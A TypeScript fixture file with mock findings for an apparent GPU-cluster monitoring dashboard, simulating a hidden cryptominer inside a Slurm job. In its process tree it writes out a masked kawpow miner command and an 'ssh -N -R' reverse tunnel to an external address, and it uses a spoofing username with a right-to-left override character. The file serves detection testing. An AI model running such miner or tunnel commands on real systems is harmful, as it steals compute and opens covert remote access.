/** Canned findings: a foreign process inside a job, one that awaits a record, a device without a process, hostile text. */
import type { Finding, FindingDetail } from '../../api/contract/findings.ts';
import { at, BOOT, HOSTILE, HOUR_MS, JOB, process } from './facts.ts';
import { SIGNALS, seriesOf } from './ranking.ts';

const DEVICES = [
  { uuid: 'GPU-5f1c9d0e-1111-4a4a-8b8b-0000000000a4', index: 4, model: 'NVIDIA H100 80GB HBM3' },
  { uuid: 'GPU-5f1c9d0e-1111-4a4a-8b8b-0000000000a5', index: 5, model: 'NVIDIA H100 80GB HBM3' },
];

const ROME: Finding = {
  id: 'f_00000000000000aa',
  kind: 'compute',
  severity: 'critical',
  strength: 'proof',
  state: 'settled',
  running: true,
  mode: 'live',
  cluster: 'demo',
  node: 'gpu-a-07',
  devices: DEVICES,
  reason: 'foreign_in_job',
  reasons: ['foreign_in_job'],
  evidence: 'cgroup',
  source: {
    process: `${BOOT}/5120/51200`,
    pid: 5120,
    comm: 'kworker',
    executable: '/dev/shm/.cache/kworker',
    user: 'mlin',
  },
  insideJob: JOB,
  activeMs: Math.round(1.74 * HOUR_MS),
  residentMs: 0,
  leastMs: Math.round(1.73 * HOUR_MS),
  mostMs: Math.round(1.75 * HOUR_MS),
  provisionalMs: 0,
  value: { amount: '4.785', currency: 'EUR' },
  score: 54,
  firstSeen: at(52 * 60_000),
  lastSeen: at(20_000),
  recordedAt: at(51 * 60_000),
  resolvedAt: null,
};

export const FINDINGS: readonly Finding[] = [
  ROME,
  {
    ...ROME,
    id: 'f_00000000000000ab',
    severity: 'warn',
    node: 'gpu-b-02',
    devices: DEVICES.slice(0, 1),
    reason: 'after_end',
    reasons: ['after_end', 'no_job'],
    source: {
      ...ROME.source,
      pid: 9931,
      comm: 'python3',
      executable: '/opt/conda/bin/python3.11',
      user: 'tso',
    },
    running: false,
    activeMs: 31 * HOUR_MS,
    residentMs: 4 * HOUR_MS,
    value: { amount: '1285.25', currency: 'EUR' },
    firstSeen: at(70 * HOUR_MS),
    lastSeen: at(38 * HOUR_MS),
  },
  {
    ...ROME,
    id: 'f_00000000000000ac',
    severity: 'notice',
    state: 'provisional',
    node: 'gpu-a-01',
    devices: DEVICES.slice(1),
    reason: 'no_job',
    reasons: ['no_job'],
    evidence: null,
    insideJob: null,
    source: {
      ...ROME.source,
      pid: 771,
      comm: 'jupyter',
      executable: '/home/ana/venv/bin/python',
      user: 'ana',
    },
    activeMs: 7 * 60_000,
    residentMs: 60_000,
    provisionalMs: 8 * 60_000,
    value: null,
    firstSeen: at(9 * 60_000),
    lastSeen: at(15_000),
  },
  {
    ...ROME,
    id: 'f_00000000000000ad',
    severity: 'warn',
    strength: 'unobserved',
    mode: 'shadow',
    node: 'gpu-b-03',
    devices: DEVICES.slice(0, 1),
    reason: 'no_process',
    reasons: ['no_process'],
    evidence: null,
    insideJob: null,
    source: { process: null, pid: null, comm: null, executable: null, user: null },
    running: false,
    activeMs: 45 * 60_000,
    firstSeen: at(30 * HOUR_MS),
    lastSeen: at(29 * HOUR_MS),
  },
  {
    ...ROME,
    id: 'f_00000000000000ae',
    severity: 'notice',
    kind: 'network',
    node: 'gpu-a-07',
    source: { ...ROME.source, pid: 31337, comm: 'x', executable: HOSTILE, user: 'root\u202etoor' },
    reason: 'unverified_claim',
    reasons: ['unverified_claim'],
    evidence: 'claim',
    activeMs: 8_000,
    value: { amount: '0.006', currency: 'EUR' },
    firstSeen: at(5 * HOUR_MS),
    lastSeen: at(4 * HOUR_MS),
  },
  {
    ...ROME,
    id: 'f_00000000000000af',
    severity: 'warn',
    strength: 'suspicion',
    kind: 'integrity',
    node: 'gpu-a-07',
    devices: [],
    source: { process: null, pid: null, comm: null, executable: null, user: null },
    reason: 'tool_changed',
    reasons: ['tool_changed'],
    evidence: null,
    insideJob: null,
    running: false,
    ...{ activeMs: 0, residentMs: 0, leastMs: 0, mostMs: 0, provisionalMs: 0, value: null },
    firstSeen: at(6 * HOUR_MS),
    lastSeen: at(6 * HOUR_MS),
  },
];

function timelines(finding: Finding): FindingDetail['timelines'] {
  const [stepMs, steps] = [60_000, 60];
  return finding.devices.map((device, place) => {
    const starts = 8 + place * 3;
    const source = Array.from({ length: steps }, (_, i) => (i < starts ? 0 : 57_000 + ((i * 7919) % 2_500)));
    const used = Array.from({ length: steps }, (_, i) => (i < 3 ? 41_000 : 0));
    return {
      device: device.uuid,
      index: device.index,
      from: at(steps * stepMs),
      stepMs,
      series: [
        { label: finding.source.executable ?? 'No process', kind: 'source', ms: source },
        { label: 'Used by slurm 8101', kind: 'used', ms: used },
        {
          label: 'Reserved, not active',
          kind: 'held',
          ms: source.map((ms, i) => stepMs - ms - (used[i] ?? 0)),
        },
      ],
    };
  });
}

function processes(finding: Finding): FindingDetail['processes'] {
  if (finding.source.pid === null) return [];
  const shell = {
    comm: 'bash',
    executable: {
      path: '/usr/bin/bash',
      device: '259:2',
      inode: '1310855',
      deleted: false,
      fileSystem: 'ext4',
    },
  };
  return [
    process(1, null, {
      comm: 'systemd',
      user: 'root',
      uid: 0,
      executable: null,
      commandLine: null,
      boundary: null,
      claims: [],
      unreadable: ['exe: permission denied', 'cmdline: permission denied'],
    }),
    process(3900, 1, {
      comm: 'slurmstepd',
      user: 'root',
      uid: 0,
      executable: {
        path: '/usr/sbin/slurmstepd',
        device: '259:2',
        inode: '77123',
        deleted: false,
        fileSystem: 'ext4',
      },
      commandLine: null,
    }),
    process(4010, 3900, { ...shell, commandLine: null }),
    process(4022, 4010, { role: 'declared', activeMs: 412 * HOUR_MS, devices: ['a0', 'a1', 'a2', 'a3'] }),
    process(4407, 4022, { comm: 'iflow-tool', commandLine: null }),
    process(5101, 4407, { ...shell, commandLine: null }),
    process(finding.source.pid, 5101, {
      role: 'source',
      comm: finding.source.comm ?? '?',
      user: finding.source.user,
      executable: {
        path: finding.source.executable ?? '',
        device: '0:25',
        inode: '48',
        deleted: true,
        fileSystem: 'tmpfs',
      },
      commandLine: './kworker --algo kawpow -o stratum+tcp://***:*** -u ***',
      commandLineCut: true,
      activeMs: finding.activeMs,
      devices: finding.devices.map((device) => device.uuid),
    }),
    process(5133, 5101, {
      role: 'sibling',
      comm: 'ssh',
      executable: {
        path: '/usr/bin/ssh',
        device: '259:2',
        inode: '1311502',
        deleted: false,
        fileSystem: 'ext4',
      },
      commandLine: 'ssh -N -R 18022:localhost:22 ***@203.0.113.9',
    }),
  ];
}

const STORY: FindingDetail['story'] = {
  observed: [
    '/dev/shm/.cache/kworker (pid 5120) executed on GPU 4 and GPU 5 of gpu-a-07 for 1.74 GPU-hours, from 12:08:14 UTC on.',
    'It ran as OS account mlin, inside job slurm 8101: the kernel’s cgroup of the process names that job.',
    'Its executable file has been deleted since it started; it lay on a memory file system (/dev/shm).',
    'Beside it, the same shell started ssh with a reverse tunnel to an external address.',
  ],
  notObserved: [
    'Who started the shell: the tool process that is its parent serves requests from the job itself.',
    'What the process computed. Only that it computed, and how much.',
  ],
  candidates: [
    {
      job: JOB,
      why: 'the process is inside this job’s boundary, but this executable is not one that the job declares.',
    },
    {
      job: { ...JOB, id: 'j_0123456789abcdee', externalId: '8102', name: 'eval-nightly' },
      why: 'it holds GPU 6 and GPU 7 of this node, not the devices that were used.',
    },
  ],
  innocentCauses: [
    'The job’s declaration is incomplete: a tool that belongs to the job was not listed among its executables.',
    'A site tool (profiler, health check) was started inside the job and has no standing exemption.',
  ],
  wouldChange: [
    'A corrected declaration of job slurm 8101 that lists this executable, recorded by its owner.',
    'A standing exemption for this executable, recorded by an admin.',
  ],
};

export function detailOf(finding: Finding): FindingDetail {
  return {
    ...finding,
    processes: processes(finding),
    timelines: timelines(finding),
    dials: [],
    signals: finding.source.pid === null ? [] : SIGNALS,
    series: finding.id === ROME.id ? seriesOf(finding) : null,
    connections:
      finding.source.pid === null
        ? []
        : [
            {
              process: `${BOOT}/5133/51330`,
              pid: 5133,
              comm: 'ssh',
              kind: 'established',
              peerClass: 'external',
              localPort: 42118,
              peers: 1,
              examples: ['203.0.113.9:22'],
              first: at(51 * 60_000),
              last: at(20_000),
            },
            {
              process: `${BOOT}/5120/51200`,
              pid: 5120,
              comm: 'kworker',
              kind: 'attempt',
              peerClass: 'internal',
              localPort: 0,
              peers: 214,
              examples: ['10.20.0.1:22', '10.20.0.2:22', '10.20.0.3:22', '10.20.0.4:6443'],
              first: at(50 * 60_000),
              last: at(47 * 60_000),
            },
          ],
    story: STORY,
    cost: {
      value: finding.value,
      occupiedMs: finding.activeMs + 6 * 60_000,
      charged: finding.insideJob
        ? [
            {
              account: finding.insideJob.account,
              job: finding.insideJob,
              ms: finding.activeMs + 6 * 60_000,
              amount: { amount: '5.06', currency: 'EUR' },
            },
          ]
        : [],
    },
    history: [
      {
        at: at(51 * 60_000),
        text: 'First recorded: inside a declared job, not what it declared. Settled at once, since no record could cover it.',
      },
      {
        at: at(40 * 60_000),
        text: 'Job slurm 8101 version 2 was recorded; it declares the same executables. The verdict stayed.',
      },
    ],
  };
}
